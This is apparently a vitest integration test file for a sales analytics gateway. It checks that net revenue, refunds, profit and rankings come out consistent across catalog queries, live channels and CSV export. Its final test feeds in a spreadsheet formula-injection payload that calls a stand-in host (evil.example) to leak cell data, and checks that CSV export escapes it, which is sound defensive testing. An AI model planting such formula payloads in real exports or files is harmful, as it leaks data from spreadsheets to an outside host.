// Net revenue (docs/api.md, Metrics) through every seller surface of a real gateway: the
// catalog queries and the live `sales` and `top_products` channels, against figures worked
// out by hand from api/history/refund-fixtures.ts. Gross figures would differ in every row.
import { afterAll, describe, expect, it } from 'vitest'
import { eventually } from '../../test/support/eventually.ts'
import { ingest, rows, tokenFor } from '../../test/support/gateway.ts'
import { gatewayForFile } from '../../test/support/gateway-file.ts'
import { LiveClient } from '../../test/support/live-client.ts'
import { refundCase, refundShop } from './refund-fixtures.ts'

const hour = 3_600_000
const h0 = Math.floor(Date.now() / hour) * hour - 3 * hour // closed hours, inside the live window
const iso = (ms: number) => new Date(ms).toISOString()
const minute = (m: number) => iso(h0 + m * 60_000).replace('T', ' ').replace('Z', '')
let seller: string
const clients: LiveClient[] = []

/** Decimal strings without trailing zeros; numbers as they are. */
const canon = (v: unknown): unknown => (typeof v === 'string' && /^-?\d+\.\d+$/.test(v) ? v.replace(/0+$/, '').replace(/\.$/, '') : v)
async function query(name: string, params: Record<string, string>, columns: string[]) {
  const res = await fetch(`${file.gw.url}/api/v1/q/${name}?${new URLSearchParams({ shop: refundShop, ...params })}`, { headers: { authorization: `Bearer ${seller}` } })
  expect(res.status, await res.clone().text()).toBe(200)
  const body = (await res.json()) as { rows: Record<string, unknown>[] }
  return body.rows.map((r) => columns.map((c) => canon(r[c])))
}

const file = gatewayForFile({ LIVE_TICK_MS: '100' }, async (gw) => {
  seller = await tokenFor(['seller'], { shops: [refundShop, 'csv-shop'] })
  const batches = refundCase(h0)
  for (const batch of batches) expect((await ingest(gw, 'orders', batch)).status).toBe(200)
  const total = batches.flat().length
  await eventually(async () => {
    const [r] = await rows<{ n: string }>(gw.clickhouse('ops'), 'SELECT count() AS n FROM orders WHERE shop_id = {s:String}', { s: refundShop })
    expect(Number(r.n)).toBe(total)
  })
})
afterAll(() => clients.forEach((c) => c.close()))

describe('catalog: net revenue = gross sales - refunds at the refund time', () => {
  it('sales_overview: a period with refunds inside it, of older lines and of a sale that came later', async () => {
    const cols = ['currency', 'revenue', 'gross_revenue', 'refunds', 'orders', 'aov', 'customers', 'units', 'prev_revenue', 'revenue_growth_pct']
    expect(await query('sales_overview', { from: iso(h0), to: iso(h0 + hour) }, cols)).toEqual([
      ['EUR', '0', '10', '10', '1', '0', '1', '0', '0', null],
      ['USD', '175', '320', '145', '4', '43.75', '4', '4', '0', null],
    ])
  })

  it('sales_overview: the next period holds only a refund (negative net, growth against |previous|)', async () => {
    const cols = ['currency', 'revenue', 'gross_revenue', 'refunds', 'orders', 'aov', 'units', 'prev_revenue', 'prev_gross_revenue', 'prev_refunds', 'prev_orders', 'prev_aov', 'prev_units', 'revenue_growth_pct', 'orders_growth_pct', 'aov_growth_pct']
    expect(await query('sales_overview', { from: iso(h0 + hour), to: iso(h0 + 2 * hour) }, cols)).toEqual([
      ['EUR', '0', '0', '0', '0', null, '0', '0', '10', '10', '1', '0', '0', null, -100, null],
      ['USD', '-80', '0', '80', '0', null, '-1', '175', '320', '145', '4', '43.75', '4', -145.7143, -100, null],
    ])
  })

  it('sales_trend per minute: each refund in its own minute, the late sale in its minute', async () => {
    const q = (metric: string) => query('sales_trend', { from: iso(h0), to: iso(h0 + 2 * hour), interval: '1m', metric }, ['t', 'currency', 'value'])
    const ts = (m: number, currency: string, value: string) => [minute(m).replace('.000', ''), currency, value]
    expect(await q('revenue')).toEqual([ts(0, 'USD', '150'), ts(1, 'USD', '-50'), ts(2, 'EUR', '10'), ts(3, 'EUR', '-10'), ts(10, 'USD', '60'), ts(20, 'USD', '-20'), ts(30, 'USD', '-45'), ts(59, 'USD', '80'), ts(60, 'USD', '-80')])
    expect((await q('units')).map((r) => r[2])).toEqual(['3', '-1', '1', '-1', '3', '-1', '-1', '1', '-1'])
    expect((await q('gross_revenue')).map((r) => r[2])).toEqual(['180', '0', '10', '0', '60', '0', '0', '80', '0'])
    expect((await q('refunds')).map((r) => r[2])).toEqual(['30', '50', '0', '10', '0', '20', '45', '0', '80'])
    expect((await q('orders')).map((r) => r[2])).toEqual(['2', '0', '1', '0', '1', '0', '0', '1', '0'])
    expect((await q('profit')).map((r) => r[2])).toEqual(['90', '-30', '6', '-6', '45', '-15', '-25', '50', '-50'])
  })

  it('profitability per hour: a refund returns its cost too', async () => {
    const cols = ['currency', 'revenue', 'gross_revenue', 'refunds', 'cost', 'profit', 'margin_pct']
    expect(await query('profitability', { from: iso(h0), to: iso(h0 + 2 * hour), interval: '1h' }, cols)).toEqual([
      ['EUR', '0', '10', '10', '0', '0', null],
      ['USD', '175', '320', '145', '60', '115', 65.7143],
      ['USD', '-80', '0', '80', '-30', '-50', 62.5],
    ])
  })

  it('top_products, product_performance and category_breakdown rank and share by net revenue', async () => {
    const range = { from: iso(h0), to: iso(h0 + hour) }
    expect(await query('top_products', range, ['currency', 'product_id', 'revenue', 'units', 'orders', 'profit', 'gross_revenue', 'refunds', 'returned_units'])).toEqual([
      ['EUR', 'p-1', '0', '0', '1', '0', '10', '10', '1'],
      ['USD', 'p-3', '80', '1', '1', '50', '80', '0', '0'],
      ['USD', 'p-1', '55', '1', '2', '35', '150', '95', '2'],
      ['USD', 'p-4', '40', '2', '1', '30', '60', '20', '1'],
      ['USD', 'p-2', '0', '0', '1', '0', '30', '30', '1'],
    ])
    const perf = await query('product_performance', { ...range, product_id: 'p-1' }, ['currency', 'revenue', 'gross_revenue', 'refunds', 'cost', 'profit', 'margin_pct', 'units', 'returned_units', 'orders', 'avg_unit_price', 'revenue_share_pct'])
    expect(perf).toEqual([['EUR', '0', '10', '10', '0', '0', null, '0', '1', '1', '10', null], ['USD', '55', '150', '95', '20', '35', 63.6364, '1', '2', '2', '50', 31.4286]])
    expect(await query('category_breakdown', range, ['currency', 'category', 'revenue', 'units', 'orders', 'profit', 'gross_revenue', 'refunds', 'revenue_share_pct'])).toEqual([
      ['EUR', 'shoes', '0', '0', '1', '0', '10', '10', null],
      ['USD', 'hats', '80', '1', '1', '50', '80', '0', 45.7143],
      ['USD', 'shoes', '55', '1', '2', '35', '150', '95', 31.4286],
      ['USD', 'bags', '40', '2', '1', '30', '60', '20', 22.8571],
      ['USD', 'socks', '0', '0', '1', '0', '30', '30', 0],
    ])
  })

  it('customer_ltv: each customer\'s refunds, whenever they came, come off their lifetime revenue', async () => {
    const month = (ms: number) => iso(ms).slice(0, 7) + '-01'
    const thisMonth = month(h0)
    const c4Month = month(h0 - 2 * 86_400_000 - hour) // c-4 bought two days before h0
    const got = await query('customer_ltv', { since: iso(h0 - 60 * 86_400_000) }, ['cohort', 'currency', 'customers', 'revenue', 'gross_revenue', 'refunds', 'orders'])
    // c-1 130-30, c-2 50-50, c-3 80-80, c-5 60-20 (refund sent first), c-4 45-45; EUR c-8 10-10.
    expect(got).toEqual(c4Month === thisMonth
      ? [[thisMonth, 'EUR', '1', '0', '10', '10', '1'], [thisMonth, 'USD', '5', '140', '365', '225', '5']]
      : [[c4Month, 'USD', '1', '0', '45', '45', '1'], [thisMonth, 'EUR', '1', '0', '10', '10', '1'], [thisMonth, 'USD', '4', '140', '320', '180', '4']])
  })
})

describe('live channels: the same net figures', { timeout: 300_000 }, () => {
  it('sales per minute and top products over 24 h', async () => {
    const c = await LiveClient.connect(file.gw.url, { token: seller })
    clients.push(c)
    c.subscribe(1, 'sales', { shop: refundShop, interval: '1m' })
    c.subscribe(2, 'top_products', { shop: refundShop, window: '24h' })
    const t = (m: number) => h0 + m * 60_000
    // t, currency, revenue, cost, units, orders, customers, aov, gross_revenue, refunds
    await eventually(() => expect(c.rows(1)).toEqual([
      [t(0), 'USD', 150, 60, 3, 2, 2, 75, 180, 30],
      [t(1), 'USD', -50, -20, -1, 0, 0, 0, 0, 50],
      [t(2), 'EUR', 10, 4, 1, 1, 1, 10, 10, 0],
      [t(3), 'EUR', -10, -4, -1, 0, 0, 0, 0, 10],
      [t(10), 'USD', 60, 15, 3, 1, 1, 60, 60, 0],
      [t(20), 'USD', -20, -5, -1, 0, 0, 0, 0, 20],
      [t(30), 'USD', -45, -20, -1, 0, 0, 0, 0, 45],
      [t(59), 'USD', 80, 30, 1, 1, 1, 80, 80, 0],
      [t(60), 'USD', -80, -30, -1, 0, 0, 0, 0, 80],
    ]), { timeoutMs: 60_000 })
    // product_id, category, currency, revenue, units, orders, gross_revenue, refunds (the sale two days back is outside 24 h)
    await eventually(() => expect(c.rows(2).sort((a, b) => (b[3] as number) - (a[3] as number) || `${a[0]}${a[2]}`.localeCompare(`${b[0]}${b[2]}`))).toEqual([
      ['p-1', 'shoes', 'USD', 55, 1, 2, 150, 95],
      ['p-4', 'bags', 'USD', 40, 2, 1, 60, 20],
      ['p-1', 'shoes', 'EUR', 0, 0, 1, 10, 10],
      ['p-2', 'socks', 'USD', 0, 0, 1, 30, 30],
      ['p-3', 'hats', 'USD', 0, 0, 1, 80, 80],
    ]), { timeoutMs: 60_000 })
  })
})

describe('CSV export of the catalog', () => {
  it('escapes a product id and category that a spreadsheet would run as formulas', async () => {
    const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    expect((await ingest(file.gw, 'orders', [{ order_id: 'x-1', ts: h0 + 60_000, shop_id: 'csv-shop', customer_id: 'c', product_id: evil, category: '@SUM(1+1)', quantity: 1, unit_price: 5, currency: 'USD', status: 'completed' }])).status).toBe(200)
    await eventually(async () => {
      const res = await fetch(`${file.gw.url}/api/v1/q/top_products?shop=csv-shop&from=${iso(h0)}&to=${iso(h0 + hour)}&format=csv`, { headers: { authorization: `Bearer ${seller}` } })
      const lines = (await res.text()).split('\r\n')
      expect(lines[1]).toBe(`USD,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")",'@SUM(1+1),5,1,1,5,5,0,0`)
    })
  })
})
